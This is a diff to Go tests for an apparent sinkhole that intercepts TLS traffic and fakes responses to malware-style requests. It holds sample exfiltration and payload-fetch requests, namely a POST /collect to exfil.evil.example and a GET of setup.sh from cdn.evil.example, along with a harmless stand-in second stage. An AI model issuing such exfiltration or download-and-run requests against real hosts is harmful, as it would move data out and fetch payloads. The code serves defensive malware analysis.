@@ -58,16 +58,25 @@ func TestSinkholeInterceptsTLS(t *testing.T) {
 	}
 	got, _ := io.ReadAll(resp.Body)
 	resp.Body.Close()
-	if resp.StatusCode != 200 || !strings.Contains(string(got), "/bin/true oa-stage2-test") {
-		t.Fatalf("answer: %d %q, want 200 with the stand-in second stage", resp.StatusCode, got)
+	if resp.StatusCode != 200 || string(got) != "{}" {
+		t.Fatalf("answer to a POST: %d %q, want 200 {}", resp.StatusCode, got)
 	}
 	if resp.TLS == nil || resp.TLS.PeerCertificates[0].Subject.CommonName != "exfil.evil.example" {
 		t.Fatalf("leaf: got %+v, want one for exfil.evil.example", resp.TLS)
 	}
+	resp, err = clientTo(addr, roots).Get("https://cdn.evil.example/setup.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, _ = io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if !strings.Contains(string(got), "/bin/true oa-stage2-test") {
+		t.Fatalf("answer to a download: %q, want the stand-in second stage", got)
+	}
 	s.Close()
 	_, reqs := s.Results()
-	if len(reqs) != 1 {
-		t.Fatalf("requests: got %d, want 1: %+v", len(reqs), reqs)
+	if len(reqs) != 2 {
+		t.Fatalf("requests: got %d, want 2: %+v", len(reqs), reqs)
 	}
 	r := reqs[0]
 	if !r.TLS || r.Line != "POST /collect HTTP/1.1" || r.Host != "exfil.evil.example" || !bytes.HasSuffix(r.Raw, []byte(body)) {
@@ -135,5 +144,28 @@ func TestInterceptLeaf(t *testing.T) {
 	}
 	if !ca.cert.IsCA || !ca.cert.MaxPathLenZero || ca.cert.NotAfter.Sub(time.Now()) > 3*time.Hour {
 		t.Errorf("CA: IsCA %v MaxPathLenZero %v NotAfter %v: want a path-length-0 CA valid for hours", ca.cert.IsCA, ca.cert.MaxPathLenZero, ca.cert.NotAfter)
+	}
+}
+
+func TestWantsJSON(t *testing.T) {
+	for _, tt := range []struct {
+		req  string
+		want bool
+	}{
+		{"GET /6x8c0trkp4l9uugo HTTP/1.1\r\nHost: 91.92.242.30\r\nAccept: */*\r\n\r\n", false},
+		{"GET /stage2.sh HTTP/1.1\r\nHost: cdn.example\r\n\r\n", false},
+		{"GET /install HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n", false},
+		{"GET /v1/forecast?latitude=1 HTTP/1.1\r\nAccept: */*\r\n\r\n", true},
+		{"GET /v2/markets HTTP/1.1\r\n\r\n", true},
+		{"GET /data.JSON HTTP/1.1\r\n\r\n", true},
+		{"GET /api/users HTTP/1.1\r\n\r\n", true},
+		{"GET /x HTTP/1.1\r\nAccept: application/json\r\n\r\n", true},
+		{"POST /collect HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi", true},
+		{"GET http://proxy.example/api/x HTTP/1.1\r\n\r\n", true},
+		{"GET /video.mp4 HTTP/1.1\r\n\r\n", false},
+	} {
+		if got := wantsJSON([]byte(tt.req)); got != tt.want {
+			t.Errorf("wantsJSON(%q) = %v, want %v", tt.req, got, tt.want)
+		}
 	}
 }
